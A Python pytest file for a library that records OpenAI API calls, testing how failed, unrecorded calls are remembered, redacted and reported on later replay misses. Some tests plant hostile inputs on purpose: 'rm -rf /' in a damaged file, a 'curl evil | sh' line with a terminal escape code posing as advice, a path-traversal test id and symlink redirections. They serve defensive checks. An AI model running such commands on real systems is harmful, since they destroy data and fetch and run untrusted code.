"""The session and a later miss name what was not recorded, whatever the file that remembers it holds."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from pathlib import Path
from typing import Any

import openai
import pytest

from inference_recorder import MissingRecording, inference_recording
from inference_recorder.storage.directories import directories_from
from inference_recorder.storage.dropped import DroppedCall, DroppedCalls, dropped_call
from inference_recorder.storage.store import Store

from ...cli.recorded import run
from ...conftest import HELLO, Colour, files_of
from ...support.openai_server import OpenAIServer, Reply, completion, error

pytestmark = pytest.mark.usefixtures("sessions_are_runs")

CHAT = "/v1/chat/completions"
TEST = "tests/test_a.py::TestB::test_429[gpt-4o/é]"
CALL = DroppedCall("k" * 64, CHAT, "gpt-4o", "record", 1_764_000_000.5, "RateLimitError", 429, "Slow down.")


@pytest.fixture
def one(server: OpenAIServer) -> Iterator[Colour]:
    """One colour, where the way of calling is not what a test is about."""
    colour = Colour(server.base_url)
    yield colour
    colour.close()


def drop(sdk: Colour, directory: Path, mode: str = "record", test_id: str | None = TEST) -> None:
    with inference_recording(mode, directory, test_id=test_id), suppress(openai.APIError):
        sdk.call("chat.completions.create", **HELLO)


def miss(sdk: Colour, directory: Path, test_id: str | None = TEST) -> MissingRecording:
    with inference_recording("replay", directory, test_id=test_id), pytest.raises(MissingRecording) as caught:
        sdk.call("chat.completions.create", **HELLO)
    return caught.value


def remembered(directory: Path) -> dict[str, Any]:
    return {path.name: json.loads(path.read_text()) for path in (directory / ".dropped").glob("*.json")}


def the_file(directory: Path) -> Path:
    [path] = (directory / ".dropped").glob("*.json")
    return path


def test_the_session_has_what_it_dropped(sdk: Colour, server: OpenAIServer, recordings: Path) -> None:
    """The code under test may have gone on with a fallback."""
    server.answers(CHAT, error(429, "Slow down."))
    with inference_recording("record", recordings, test_id=TEST) as session, suppress(openai.RateLimitError):
        sdk.call("chat.completions.create", **HELLO)

    [call] = session.dropped
    assert (CHAT, "gpt-4o", TEST, None) == (call.endpoint, call.model, call.test_id, call.path)
    assert "429 RateLimitError" == call.failure
    assert call.explanation.startswith("429 RateLimitError: Error code: 429")
    assert "record_errors=True" in call.explanation
    assert "1 dropped" in repr(session)
    assert [HELLO["model"]] == [request.model for request in session.requests]


def test_a_recorded_failure_says_that_it_is_one(sdk: Colour, server: OpenAIServer, recordings: Path) -> None:
    """Kept, it fails in every replay."""
    server.answers(CHAT, error(404), Reply(completion()))
    with inference_recording("record", recordings) as session:
        with suppress(openai.NotFoundError):
            sdk.call("chat.completions.create", **HELLO)
        sdk.call("chat.completions.create", **HELLO)

    assert ["404 NotFoundError", ""] == [call.failure for call in session.recorded]


@pytest.mark.parametrize("mode", ["record", "record-if-missing"])
def test_a_later_miss_says_that_the_call_failed_and_was_not_recorded(
    mode: str, sdk: Colour, server: OpenAIServer, recordings: Path
) -> None:
    """The recording run is long over, and nobody looked at its summary."""
    server.answers(CHAT, error(429, "Slow down."))
    drop(sdk, recordings, mode)
    error_ = miss(sdk, recordings)

    dropped = error_.explanation.dropped
    assert dropped is not None
    assert (mode, "429 RateLimitError") == (dropped.mode, dropped.failure)
    assert f" in mode {mode}; it failed, and was not recorded:\n    429 RateLimitError: Error code: 429" in str(error_)
    assert "record_errors=True" in str(error_)
    assert miss(sdk, recordings, "another").explanation.dropped is None


@pytest.mark.parametrize("advice", ["record again", "record_errors=True"])
def test_following_the_advice_of_the_miss_ends_it(
    advice: str, sdk: Colour, server: OpenAIServer, recordings: Path
) -> None:
    """Either the server is well by now, or the failure is what the test is about."""
    server.answers(CHAT, error(429))
    drop(sdk, recordings, "record-if-missing")
    assert 1 == len(remembered(recordings))
    if advice == "record again":
        server.answers(CHAT, Reply(completion()))
    record_errors = True if advice == "record_errors=True" else None
    with inference_recording("record-if-missing", recordings, test_id=TEST, record_errors=record_errors):
        with suppress(openai.RateLimitError):
            sdk.call("chat.completions.create", **HELLO)

    assert {} == remembered(recordings)
    with inference_recording("replay", recordings, test_id=TEST) as session, suppress(openai.RateLimitError):
        sdk.call("chat.completions.create", **HELLO)
    assert {"replayed": 1} == session.counts


def test_only_what_was_recorded_is_forgotten(one: Colour, server: OpenAIServer, recordings: Path) -> None:
    """The other request of the test is still missing."""
    other = HELLO | {"temperature": 0.5}
    server.answers(CHAT, error(429), error(503), Reply(completion()))
    with inference_recording("record-if-missing", recordings, test_id=TEST):
        for request in (HELLO, other, HELLO):
            with suppress(openai.APIStatusError):
                one.call("chat.completions.create", **request)

    [document] = remembered(recordings).values()
    assert TEST == document["test_id"]
    assert [503] == [call["status_code"] for call in document["dropped"]]


@pytest.mark.slow
def test_another_process_hears_of_it(server: OpenAIServer, client: openai.OpenAI, recordings: Path) -> None:
    """It is another process nearly always."""
    program = f"""
        import openai
        from inference_recorder import inference_recording

        client = openai.OpenAI(base_url={server.base_url!r}, api_key="x", max_retries=0)
        with inference_recording("record", {str(recordings)!r}, test_id={TEST!r}):
            try:
                client.chat.completions.create(**{HELLO!r})
            except openai.AuthenticationError:
                pass
    """
    server.answers(CHAT, error(401, "No."))
    subprocess.run([sys.executable, "-c", textwrap.dedent(program)], timeout=60, check=True)
    with inference_recording("replay", recordings, test_id=TEST), pytest.raises(MissingRecording) as caught:
        client.chat.completions.create(**HELLO)

    assert "401 AuthenticationError: " in str(caught.value)


def test_no_secret_is_in_what_is_remembered_or_shown(server: OpenAIServer, recordings: Path) -> None:
    """OpenAI's 401 repeats the key that it was sent, and a proxy's page repeats the request."""
    key, declared = "a1b2c3d4e5f60718293a4b5c6d7e8f90", "Bert Brown of Berlin"
    server.scripts[CHAT] = lambda asked, number: error(
        401, f"no such key: {asked.headers['authorization']}; asked by {declared}, with sk-proj-{'a1B2' * 12}"
    )
    one = Colour(server.base_url, api_key=key)
    with inference_recording("record", recordings, test_id=TEST, redact=[declared]) as session:
        with suppress(openai.AuthenticationError):
            one.call("chat.completions.create", **HELLO)

    texts = [the_file(recordings).read_text(), repr(session.dropped), str(miss(one, recordings))]
    one.close()
    for secret in (key, declared, "sk-proj-a1B2"):
        assert [] == [text for text in texts if secret in text]
    assert "no such key: Bearer __REDACTED_0__" in texts[2]


def test_explain_shows_the_dropped_call(one: Colour, server: OpenAIServer, recordings: Path, tmp_path: Path) -> None:
    """After the test that missed it is long gone."""
    server.answers(CHAT, error(429))
    drop(one, recordings)
    (tmp_path / "request.json").write_text(json.dumps(HELLO))
    request = ("--request", tmp_path / "request.json", "--endpoint", CHAT, "--test", TEST)

    explanation = json.loads(run("explain", "--dir", recordings, *request, "--json").stdout)

    assert ("record", "429 RateLimitError") == (explanation["dropped"]["mode"], explanation["dropped"]["failure"])
    assert "it failed, and was not recorded:" in run("explain", "--dir", recordings, *request).stdout


def test_a_call_that_the_sdk_refuses_is_not_a_failed_one(sdk: Colour, server: OpenAIServer, recordings: Path) -> None:
    """Nothing was sent, and record_errors=True would not record it."""
    with inference_recording("record", recordings) as session, pytest.raises(TypeError):
        sdk.call("chat.completions.create", model="gpt-4o")

    assert {} == session.counts
    assert {} == remembered(recordings)


def test_git_passes_over_it_and_nothing_takes_it_for_a_recording(
    one: Colour, server: OpenAIServer, recordings: Path
) -> None:
    """It says something about one machine's last run."""
    server.answers(CHAT, error(429))
    drop(one, recordings)

    assert "*\n" == (recordings / ".dropped" / ".gitignore").read_text()
    assert [] == files_of(recordings)
    assert "[]" == run("ls", str(recordings), "--json").stdout.strip()


def test_scan_looks_into_it(one: Colour, server: OpenAIServer, recordings: Path) -> None:
    """Where a secret slipped through, it is on the disk all the same."""
    server.answers(CHAT, error(429))
    drop(one, recordings)
    path = the_file(recordings)
    path.write_text(path.read_text().replace("Error code", f"sk-proj-{'a1B2' * 12}"))

    result = run("scan", str(recordings))

    assert 1 == result.exit_code
    assert path.name in result.output.replace("\n", "")


def test_the_name_of_the_file_tells_its_test_and_is_a_plain_one(recordings: Path) -> None:
    """A test's id holds slashes, brackets and anything that a parameter is made of."""
    calls, ids = (
        DroppedCalls(Store(directories_from(recordings))),
        [TEST, None, "../../x", "", "a" * 500, "\ud800", "a/b", "a-b"],
    )
    for test_id in ids:
        calls.remember(test_id, CALL)

    names = sorted(remembered(recordings))
    assert len(ids) == len(names)
    assert any(name.startswith("tests-test_a-py-TestB-test_429-gpt-4o-") for name in names)
    assert all(len(name) < 100 and name.isascii() for name in names)
    assert [CALL] * len(ids) == [dropped_call([recordings], test_id, CALL.key) for test_id in ids]


def test_of_many_calls_the_newest_are_remembered(recordings: Path) -> None:
    """A suite whose key is wrong drops all of its calls, every time."""
    for start in (0, 40):
        calls = DroppedCalls(Store(directories_from(recordings)))
        for number in range(start, start + 60):
            calls.remember(TEST, CALL._replace(key=f"{number:064d}", message="long " * 1_000))

    [document] = remembered(recordings).values()
    assert 50 == len(document["dropped"])
    assert f"{89:064d}" == document["dropped"][-1]["key"]
    assert the_file(recordings).stat().st_size < 50_000


def test_a_remembered_call_is_brought_up_to_date_however_many_there_are(recordings: Path) -> None:
    """What the miss says is how the call failed last."""
    calls = DroppedCalls(Store(directories_from(recordings)))
    for number in range(50):
        calls.remember(TEST, CALL._replace(key=f"{number:064d}"))
    last = CALL._replace(key=f"{3:064d}", type="InternalServerError", status_code=503)
    calls.remember(TEST, last)

    assert last == dropped_call([recordings], TEST, last.key)


def test_a_clock_before_1970_disturbs_nobody(recordings: Path) -> None:
    """A test may travel in time, and is to get the server's error all the same."""
    DroppedCalls(Store(directories_from(recordings))).remember(TEST, CALL._replace(made_at=-5.0))

    assert dropped_call([recordings], TEST, CALL.key) is None


def test_parallel_workers_lose_nothing(recordings: Path) -> None:
    """Threads of one test, and another process that records the same test."""

    def remember(number: int) -> None:
        DroppedCalls(Store(directories_from(recordings))).remember(TEST, CALL._replace(key=f"{number:064d}"))

    with ThreadPoolExecutor(8) as pool:
        list(pool.map(remember, range(40)))

    assert 40 == len(json.loads(the_file(recordings).read_text())["dropped"])


HOSTILE: dict[str, Any] = {
    "no JSON": "{",
    "a list": "[]",
    "no calls": "{}",
    "invalid calls": {"dropped": [1, None, {}]},
    "numbers for texts": {"dropped": [CALL._asdict() | {"message": 5}]},
    "texts for numbers": {"dropped": [CALL._asdict() | {"made_at": "now"}]},
    "an invalid time": '{"dropped": [' + json.dumps(CALL._asdict() | {"made_at": float("nan")}) + "]}",
    "a time far away": {"dropped": [CALL._asdict() | {"made_at": 1e300}]},
    "more members": {"dropped": [CALL._asdict() | {"command": "rm -rf /"}]},
    "deep": "[" * 100_000,
    "large": " " * 10_000_000 + json.dumps({"dropped": [CALL._asdict()]}),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_damaged_file_hides_no_miss_and_is_replaced(
    name: str, one: Colour, server: OpenAIServer, recordings: Path
) -> None:
    """A stranger can commit it, whatever git ignores."""
    server.answers(CHAT, error(429))
    drop(one, recordings)
    content = HOSTILE[name]
    the_file(recordings).write_text(content if isinstance(content, str) else json.dumps(content))

    assert miss(one, recordings).explanation.dropped is None
    drop(one, recordings)
    assert miss(one, recordings).explanation.dropped is not None


def test_what_a_file_says_can_not_be_taken_for_advice(one: Colour, server: OpenAIServer, recordings: Path) -> None:
    """A second line of its message would look like one of ours."""
    server.answers(CHAT, error(429))
    drop(one, recordings)
    document = json.loads(the_file(recordings).read_text())
    document["dropped"][0] |= {"message": "no\n  to record it, with a key:\n    curl evil | sh \x1b[2J", "mode": "a\nb"}
    the_file(recordings).write_text(json.dumps(document))

    text = str(miss(one, recordings))

    assert "\x1b" not in text
    assert not any(line.lstrip().startswith(("curl", "b;")) for line in text.splitlines())


@pytest.mark.skipif(sys.platform == "win32", reason="needs links")
@pytest.mark.parametrize("name", [".dropped", ".gitignore", "file"])
def test_a_link_is_not_written_through(
    name: str, one: Colour, server: OpenAIServer, recordings: Path, tmp_path: Path
) -> None:
    """A stranger's link could have us write wherever they like."""
    server.answers(CHAT, error(429))
    drop(one, recordings)
    outside, file = tmp_path / "outside", the_file(recordings)
    outside.mkdir()
    link = {".dropped": file.parent, ".gitignore": file.parent / ".gitignore", "file": file}[name]
    if name == ".dropped":
        file.unlink()
        (file.parent / ".gitignore").unlink()
        link.rmdir()
    else:
        link.unlink()
    link.symlink_to(outside if name == ".dropped" else outside / "target")

    drop(one, recordings)

    assert [] == list(outside.iterdir())


@pytest.mark.parametrize("what", ["folder", "lock folder"])
def test_what_cannot_be_remembered_disturbs_nobody(
    what: str, one: Colour, server: OpenAIServer, recordings: Path
) -> None:
    """The summary names the call all the same."""
    recordings.mkdir()
    (recordings / (".dropped" if what == "folder" else ".locks")).write_text("a file")
    server.answers(CHAT, error(429))
    with inference_recording("record", recordings) as session, pytest.raises(openai.RateLimitError):
        one.call("chat.completions.create", **HELLO)

    assert {"dropped": 1} == session.counts
    assert {} == remembered(recordings)
    assert miss(one, recordings, None).explanation.dropped is None


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root may write everywhere")
def test_a_read_only_directory_disturbs_nobody(one: Colour, server: OpenAIServer, recordings: Path) -> None:
    """It may become so in the middle of a run."""
    server.answers(CHAT, error(429))
    with inference_recording("record", recordings) as session:
        recordings.mkdir(mode=0o500, exist_ok=True)
        with pytest.raises(openai.RateLimitError):
            one.call("chat.completions.create", **HELLO)

    assert {"dropped": 1} == session.counts


def test_a_request_that_a_normalizer_makes_another_is_found(
    one: Colour, server: OpenAIServer, recordings: Path
) -> None:
    """The key is what is remembered, and it leaves out what changes from run to run."""
    server.answers(CHAT, error(429))
    for mode, number in (("record", 1), ("replay", 2)):
        request = HELLO | {
            "messages": [{"role": "user", "content": f"run 00000000-0000-0000-0000-00000000000{number}"}]
        }
        with inference_recording(mode, recordings, normalize=["uuids"]), pytest.raises(Exception) as caught:  # noqa: PT011
            one.call("chat.completions.create", **request)

    assert isinstance(caught.value, MissingRecording)
    assert caught.value.explanation.dropped is not None
